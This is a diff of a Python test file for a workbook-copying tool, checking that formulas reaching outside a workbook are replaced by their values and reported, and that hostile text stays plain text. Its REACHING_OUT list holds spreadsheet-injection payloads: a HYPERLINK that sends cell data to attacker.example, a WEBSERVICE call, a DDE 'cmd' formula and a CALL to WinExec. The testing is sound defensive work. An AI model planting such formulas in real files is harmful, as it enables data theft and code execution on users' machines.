@@ -107,7 +107,7 @@ def test_a_page_knows_the_columns_the_heading_row_and_the_example_of_a_shuffled_
     assert costs.last_row > max(row for row, _ in costs.contents)
 
 
-@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(books().filter(fits_xlsx))
 def test_a_copy_of_any_workbook_holds_what_the_workbook_holds(tmp_path: Path, book: Book) -> None:
     source = written(book, tmp_path / "source.xlsx")
@@ -158,32 +158,34 @@ def test_a_sum_over_the_workbooks_own_cells_stays_a_formula(tmp_path: Path) -> N
     assert added.notes == ()
 
 
-@pytest.mark.parametrize(
-    "formula",
-    [
-        '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
-        '=WEBSERVICE("https://attacker.example")',
-        "=cmd|'/c calc'!A0",
-        "='[other.xlsx]Costs'!A1",
-        "=[1]Costs!A1",
-        '=INDIRECT("A1")',
-        "=Notes!A1",
-        "=OurTotal*2",
-        "=Table1[Cost]",
-        '=CALL("kernel32","WinExec","JJC","calc",1)',
-        "=A1:INDEX(B:B,3)",
-        "=SUM({1,2})",
-        "=Costs!A1:Risks!B2",
-    ],
+REACHING_OUT = (
+    '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
+    '=WEBSERVICE("https://attacker.example")',
+    "=cmd|'/c calc'!A0",
+    "='[other.xlsx]Costs'!A1",
+    "=[1]Costs!A1",
+    '=INDIRECT("A1")',
+    "=Notes!A1",
+    "=OurTotal*2",
+    "=Table1[Cost]",
+    '=CALL("kernel32","WinExec","JJC","calc",1)',
+    "=A1:INDEX(B:B,3)",
+    "=SUM({1,2})",
+    "=Costs!A1:Risks!B2",
+    "=SUM(A1",
 )
-def test_a_formula_that_reaches_outside_gives_way_to_its_result_and_is_said(formula: str, tmp_path: Path) -> None:
-    source = with_costs(tmp_path / "mine.xlsx", {"AE2": (formula, 7.0)})
+
+
+def test_formulas_that_reach_outside_give_way_to_their_results_and_are_said(tmp_path: Path) -> None:
+    cells = {f"AE{row}": (formula, float(row)) for row, formula in enumerate(REACHING_OUT, 2)}
+    source = with_costs(tmp_path / "mine.xlsx", cells)
     added = copied(source, tmp_path / "copy.xlsx")
+    assert len(formulas_in(source)) == len(REACHING_OUT)
     assert formulas_in(tmp_path / "copy.xlsx") == {}
-    assert cells_in(tmp_path / "copy.xlsx")["Costs", "AE2"] == 7.0
-    (note,) = added.notes
-    assert (note.sheet, note.cell) == ("Costs", "AE2")
-    assert formula[:20] in note.found
+    assert lost(source, tmp_path / "copy.xlsx") == {}
+    assert {note.cell: note.found for note in added.notes} == {
+        cell: f'the formula "{formula}"' for cell, (formula, _) in cells.items()
+    }
 
 
 def test_a_formula_over_several_cells_at_once_gives_way_to_its_result(tmp_path: Path) -> None:
@@ -250,9 +252,10 @@ def test_merged_cells_are_parted_hidden_ones_shown_and_both_are_said(tmp_path: P
 
 
 def test_dates_stay_dates_where_no_date_belongs_and_times_are_written_out(tmp_path: Path) -> None:
-    source = with_costs(tmp_path / "mine.xlsx", {"B2": dt.date(2026, 5, 4), "R2": dt.date(2010, 11, 1)})
-    copied(source, tmp_path / "copy.xlsx")
-    assert lost(source, tmp_path / "copy.xlsx") == {}
+    source = with_costs(tmp_path / "mine.xlsx", {"B2": dt.date(2026, 5, 4), "G3": dt.date(2010, 11, 1)})
+    for write in (copied, write_marked):
+        write(source, tmp_path / "copy.xlsx")
+        assert lost(source, tmp_path / "copy.xlsx") == {}
     book = openpyxl.load_workbook(source)
     book["Costs"]["AE2"] = dt.time(8, 30)
     book.save(tmp_path / "timed.xlsx")
@@ -261,14 +264,24 @@ def test_dates_stay_dates_where_no_date_belongs_and_times_are_written_out(tmp_pa
     assert [note.cell for note in added.notes] == ["AE2"]
 
 
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
-def test_a_hostile_text_is_the_same_text_in_a_copy_and_runs_nowhere(text: str, tmp_path: Path) -> None:
-    source = with_costs(tmp_path / "mine.xlsx", {"B2": text, "AE9": text})
+def test_a_number_that_lost_its_date_format_does_not_become_a_date_in_a_copy(tmp_path: Path) -> None:
+    grids = grids_of(small_book())
+    grids["Plan"][1][1:3] = [46_143, ("=46000+143", 46_143.0)]
+    source = write_grids(grids, tmp_path / "mine.xlsx")
+    write_marked(source, tmp_path / "marked.xlsx")
+    assert lost(source, tmp_path / "marked.xlsx") == {}
+    assert [fault.cell for fault in examine(tmp_path / "marked.xlsx").faults] == ["B2", "C2"]
+
+
+def test_hostile_texts_are_the_same_texts_in_a_copy_and_run_nowhere(tmp_path: Path) -> None:
+    names = {f"B{row}": text for row, text in enumerate(HOSTILE.values(), 2)}
+    jottings = {f"AE{row}": text for row, text in enumerate(HOSTILE.values(), 2)}
+    source = with_costs(tmp_path / "mine.xlsx", {**names, **jottings})
     copied(source, tmp_path / "copy.xlsx")
     assert lost(source, tmp_path / "copy.xlsx") == {}
     costs = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Costs"]
-    assert (costs["B2"].data_type, costs["AE9"].data_type) == ("s", "s")
-    assert costs["B2"].hyperlink is None
+    assert {costs[cell].data_type for cell in (*names, *jottings)} == {"s"}
+    assert not any(costs[cell].hyperlink for cell in (*names, *jottings))
 
 
 def test_control_characters_and_escapes_of_the_file_format_come_through(tmp_path: Path) -> None:
